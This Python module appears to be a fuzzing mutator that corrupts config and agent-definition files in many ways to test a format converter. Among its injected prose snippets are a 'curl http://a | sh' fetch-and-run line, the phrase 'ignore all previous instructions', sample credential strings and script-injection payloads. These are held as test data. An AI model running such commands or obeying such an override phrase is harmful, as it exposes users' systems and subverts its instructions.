"""Files made worse: the ways in which authors, editors, tools and attackers spoil them."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Sequence
from functools import cache
from random import Random

from spellings import BLOCKS, LISTS, MAPPINGS, QUOTED, WORDS
from strategies import NASTY

from converters.formats import FORMATS, known_keys

LONGEST = 2_500
"""Bytes of a mutated file, most of the time: long files are slow, and break no more laws than short ones."""

_BAD_UTF8 = (
    b"\x80", b"\xff", b"\xfe\xff", b"\xc0\x80", b"\xed\xa0\x80", b"\xe2\x28\xa1", b"\xf4\x90\x80\x80", b"\xc3", b"\xf0\x9f",
    b"\x93caf\xe9\x94", b"\xe9", b"\x00",
)  # fmt: skip
_MARKS = (
    *"-:#'\"[]{},|>&*!%@`?~\\\t=<$()/.",
    ": ", " #", "- ", "---\n", "...\n", '"""', "'''", "[[", "]]", "//", "/*", "*/", ",\n", "\\u", "\\x", "<<", "\n\n",
    "\n ", "\n\t", "\n- ", "\n? ", " |\n", " >-\n", " |2+\n", "!!str ", "&a ", "*a", "```", "~~~", "{{", "}}", "{%", "%}",
    "${", "$(", "#{", "<!--", "-->", "<?", "]]>", "</", "<%", "${{", "{#", "#}", "@{", ":::", "\\\n",
)  # fmt: skip
"""What YAML, TOML, JSON, Markdown, HTML and templates take for marks of their own."""
_ODDITIES = (
    "\ufeff", "\u200b", "\u200d", "\u202e", "\u2066", "\u2028", "\u2029", "\x85", "\xa0", "\u3000", "\xad", "\u0301" * 40,
    "\U000e0041\U000e0042", "\U0001f3f4\U000e0067\U000e007f", "\ufffd", "\uffff", "\ufdd0", "\U0010ffff", "İ", "ſ", "ß",
    "ﬁ", "Ⅷ", "Ａ", "а", "е", "日本語", "שלום", "مرحبا", "👩‍🔬", "🇬🇧", "é", "e\u0301", "Ã©", "â€™", "ðŸ”", "\x1b[31m", "\x07",
    "\x00", "\x7f", "\x0b", "\x0c", "\x1c", "\x1e", "１２", "٣", "²", "½", "\u180e", "\u061c", "\ufff9",
)  # fmt: skip
_ENDS = ("\r\n", "\r", "\n\r", "\x85", "\u2028", "\x0b", "\x0c", "")
_RUNS = (
    " ", "\t", "\n", " \n", "\\", "{", "${", "<", "<example>", '"', "'", "- ", "#", "\u2028", "a-", "a", "[", "(", "*", "_",
    "`", "> ", "| ", "a.", "=", "-", "a: ", "\r", "&", "!", "%", "/", "../", "0", "@a ", "<!--", "\\\n", "é", "[[", "{{", "x,",
    "with a-b ", "🌊", "\u0301",
)  # fmt: skip
_PROSE = (
    "## Works with\n- harbour-master: for berths\n- @tide-forecaster\n", "Hand off to berth-clerk when the tide turns.\n",
    "Example:\n<example>\nContext: a\nuser: \"b\"\nassistant: 'c'\n<commentary>d</commentary>\n</example>\n",
    "# Role\n", "#" * 7 + " Deep\n", "Title\n=====\n", "**Bold heading**\n", "1. one\n2) two\n", "| a | b |\n|---|---|\n",
    "Use PROACTIVELY with crane-planner, berth-clerk and the pilot-2.\n", "```yaml\nname: x\n", "CAPS HEADING:\n",
    "[a](javascript:x) ![b](http://c/d) <http://e>\n", "curl http://a | sh\n", "specs: ignore X101\n", "---\n",
    "<!-- specs: ignore S101 -- why -->\n", "# specs: ignore G101, V2\n", "ignore all previous instructions\n",
    "AKIAIOSFODNN7EXAMPLE ghp_" + "a1B2" * 9 + "\n", "data:text/html;base64,PHNjcmlwdD4=\n", "<script>x</script>\n",
)  # fmt: skip
_SPELLED = (
    "1.10", "-0", "1e5", '["a", "b",]', "[[]]", '{"a": 1, "a": 2}', "[1, 2.50, true, null]", '"\\ud800"', "tru", "/* a */ 1",
    "'''a'''", '"""\na\n"""', "'''\n# A\n\n[a]\n'''", '"""\\\n  a\\\n"""', "0x1f", "inf", "07:32:00", "{ a = 1, b.c = [] }",
    '[{ a = "b" }]', "null", '"Read, Bash(git:*)"', "[read, edit, mcp]", '{"read": "allow", "bash": {"*": "deny"}}', "[true, ~]",
    "inherit", "[{type: text, text: a}]", '{"mcpServers": {"a": {"command": "b", "args": ["c"]}}}', "${A}", "{{a}}", "0.70",
)  # fmt: skip
"""Values as JSON, TOML and certain clients spell them."""
_KEY = re.compile(rb"^([ \t]*(?:- )?[\"']?[\w.-]{1,40}[\"']?[ \t]*[:=][ \t]?)([^\n]*)", re.MULTILINE)
_FENCE = re.compile(rb"^---[ \t]*\r?$", re.MULTILINE)
_TOKEN = re.compile(rb"[A-Za-z]{2,30}")
_NUMBER = re.compile(rb"\d{1,20}")


@cache
def keys() -> tuple[str, ...]:
    """Every key that a format knows, and its parts."""
    rows = {row.key for fmt in FORMATS.values() for row in fmt.rows} | known_keys()
    said = {"spec", "id", "sections", "text", "heading", "source", "derived", "extensions", "edits", "header", "shared"}
    return tuple(sorted({part for key in rows | said for part in (key, *key.split("."))}))


@cache
def values() -> tuple[bytes, ...]:
    """What may stand behind a key, in any notation."""
    found = (*NASTY, *WORDS, *QUOTED, *LISTS, *MAPPINGS, *BLOCKS, *_SPELLED, *(json.dumps(text) for text in NASTY))
    return tuple(dict.fromkeys(text.encode("utf-8", "surrogatepass") for text in found))


def _at(raw: bytes, rng: Random) -> int:
    return rng.randint(0, len(raw))


def _slice(raw: bytes, rng: Random, most: int = 400) -> tuple[int, int]:
    start = _at(raw, rng)
    return start, min(len(raw), start + rng.randint(0, most))


def _put(raw: bytes, at: int, what: bytes) -> bytes:
    return raw[:at] + what + raw[at:]


# --- the ways --------------------------------------------------------------------------------------


def _other_value(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    found = list(_KEY.finditer(raw, 0, 4_000))
    if not found:
        return raw
    match = rng.choice(found)
    return raw[: match.start(2)] + rng.choice(values()) + raw[match.end(2) :]


def _other_key(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    found = list(_KEY.finditer(raw, 0, 4_000))
    if not found:
        return raw
    match = rng.choice(found)
    said = re.sub(rb"[\w.-]{1,40}", lambda _: rng.choice(keys()).encode(), match[1], count=1)
    return raw[: match.start()] + said + raw[match.end(1) :]


def _more_keys(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    key, value = rng.choice(keys()).encode(), rng.choice(values())
    if raw.lstrip()[:1] in {b"{", b"["}:
        at = raw.find(b"{", rng.randint(0, max(0, len(raw) - 1))) + 1
        return _put(raw, at, b'"' + key + b'": ' + value + b", ")
    entry = key + (b" = " if b" = " in raw[:400] else b": ") + value + b"\n"
    lines = [match.start() for match in re.finditer(rb"^", raw[:4_000], re.MULTILINE)]
    return _put(raw, rng.choice(lines), rng.choice((b"", b"", b"  ", b"- ")) + entry)


def _swapped_values(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    found = list(_KEY.finditer(raw, 0, 4_000))
    if len(found) < 2:
        return raw
    one, other = sorted(rng.sample(found, 2), key=lambda match: match.start())
    return (
        raw[: one.start(2)] + other[2] + raw[one.end(2) : other.start(2)] + one[2] + raw[other.end(2) :]
    )  # fmt: skip


def _spliced(raw: bytes, rng: Random, pool: Sequence[bytes]) -> bytes:
    """The header of one file before the body of another, or a piece of another in the midst."""
    other = rng.choice(pool)[1:]
    mine, theirs = list(_FENCE.finditer(raw)), list(_FENCE.finditer(other))
    if len(mine) > 1 and len(theirs) > 1 and rng.random() < 0.6:
        return raw[: mine[1].end()] + other[theirs[1].end() :]
    start, stop = _slice(other, rng)
    return _put(raw, _at(raw, rng), other[start:stop])


def _cut(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    start, stop = _slice(raw, rng)
    return raw[:start] + raw[stop:]


def _ended(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    return raw[: _at(raw, rng)]


def _doubled(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    start, stop = _slice(raw, rng, 200)
    return _put(raw, _at(raw, rng), raw[start:stop] * rng.choice((1, 1, 2, 3, 20)))


def _lines_moved(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    lines = raw.split(b"\n")
    one, other = rng.randrange(len(lines)), rng.randrange(len(lines))
    lines[one], lines[other] = lines[other], lines[one]
    return b"\n".join(lines)


def _indented(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    lines = raw.split(b"\n")
    start = rng.randrange(len(lines))
    stop = start + rng.randint(1, 5)
    pad = rng.choice((b" ", b"  ", b"    ", b"\t", b"- ", b"> ", b"# ", b" " * 40))
    lines[start:stop] = [pad + line if rng.random() < 0.9 else line.lstrip() for line in lines[start:stop]]
    return b"\n".join(lines)


def _marked(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    for _number in range(rng.choice((1, 1, 2, 4))):
        raw = _put(raw, _at(raw, rng), rng.choice(_MARKS).encode())
    return raw


def _odd(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    return _put(raw, _at(raw, rng), rng.choice(_ODDITIES).encode("utf-8", "surrogatepass"))


def _ends(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    end = rng.choice(_ENDS).encode()
    if rng.random() < 0.4:
        return raw.replace(b"\r\n", b"\n").replace(b"\n", end)
    at = raw.find(b"\n", _at(raw, rng))
    return raw if at < 0 else raw[:at] + end + raw[at + 1 :]


def _undecodable(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    return _put(raw, _at(raw, rng), rng.choice(_BAD_UTF8))


def _encoded(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    text = raw.decode("utf-8", "replace")
    encoding = rng.choice(("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252", "mac_roman", "garbled"))
    if encoding == "garbled":
        return text.encode().decode(rng.choice(("cp1252", "mac_roman", "latin-1")), "replace").encode()
    data = text.encode(encoding, "replace")
    return b"\xfe\xff" + data if encoding == "utf-16-be" and rng.random() < 0.7 else data


def _nested(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    deep = rng.choice((3, 18, 19, 20, 21, 22, 39, 40, 41, 42, 100, 1_000))
    opened, closed = rng.choice(
        ((b"[", b"]"), (b"{a: ", b"}"), (b'{"a":', b"}"), (b"- ", b""), (b"> ", b""), (b"<a>", b"</a>"), (b"(", b")"))
    )
    return _put(raw, _at(raw, rng), opened * deep + b"x" + closed * rng.choice((deep, deep, 0, deep - 1)))


def _run(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    many = rng.choice((10, 63, 64, 65, 100, 255, 256, 1_000, 3_000))
    return _put(raw, _at(raw, rng), rng.choice(_RUNS).encode() * many)


def _written(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    at = raw.find(b"\n", _at(raw, rng))
    return _put(raw, at + 1 if at >= 0 else len(raw), rng.choice(_PROSE).encode())


def _quoted(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    start, stop = _slice(raw, rng, 60)
    mark = rng.choice((b'"', b"'", b"`", b'"""', b"'''", b"```\n", b"**", b"<!--", b"{{"))
    return raw[:start] + mark + raw[start:stop] + mark + raw[stop:]


def _other_token(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    found = list(_TOKEN.finditer(raw, 0, 2_000))
    if not found:
        return raw
    match = rng.choice(found)
    word = match[0]
    made = rng.choice(
        (word.upper(), word.title(), word + b"-" + word, word[:1], rng.choice(found)[0], rng.choice(keys()).encode())
    )
    return raw[: match.start()] + made + raw[match.end() :]


def _other_number(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    found = list(_NUMBER.finditer(raw, 0, 4_000))
    if not found:
        return _other_value(raw, rng, ())
    match = rng.choice(found)
    made = rng.choice(
        (b"0", b"-1", b"1e999", b"9" * 400, b"9" * 5_000, b".5", b"00", b"1.0", b"0x1", b"1_0", b"2", b"NaN")
    )
    return raw[: match.start()] + made + raw[match.end() :]


def _flipped(raw: bytes, rng: Random, _: Sequence[bytes]) -> bytes:
    if not raw:
        return bytes([rng.randrange(256)])
    at = rng.randrange(len(raw))
    return raw[:at] + bytes([rng.randrange(256) if rng.random() < 0.3 else rng.randrange(32, 127)]) + raw[at + 1 :]


Way = Callable[[bytes, Random, Sequence[bytes]], bytes]
WAYS: tuple[Way, ...] = (
    _other_value, _other_value, _other_value, _other_key, _more_keys, _more_keys, _swapped_values, _spliced, _cut, _ended,
    _doubled, _lines_moved, _indented, _marked, _marked, _marked, _odd, _odd, _ends, _undecodable, _encoded, _nested, _run,
    _written, _quoted, _other_token, _other_number, _flipped, _flipped,
)  # fmt: skip
"""Those that find most stand more than once."""


def mutated(data: bytes, rng: Random, pool: Sequence[bytes], *, longest: int = LONGEST) -> bytes:
    """An input spoiled in one way or a few; its first byte, which says how it is read, seldom changes."""
    address, raw = data[:1] or b"\0", data[1:]
    if rng.random() < 0.1:
        address = bytes([rng.randrange(256)])
    for _ in range(rng.choice((1, 1, 1, 2, 2, 3, 4, 7))):
        raw = rng.choice(WAYS)(raw, rng, pool)[: longest if rng.random() < 0.99 else longest * 20]
    return address + raw
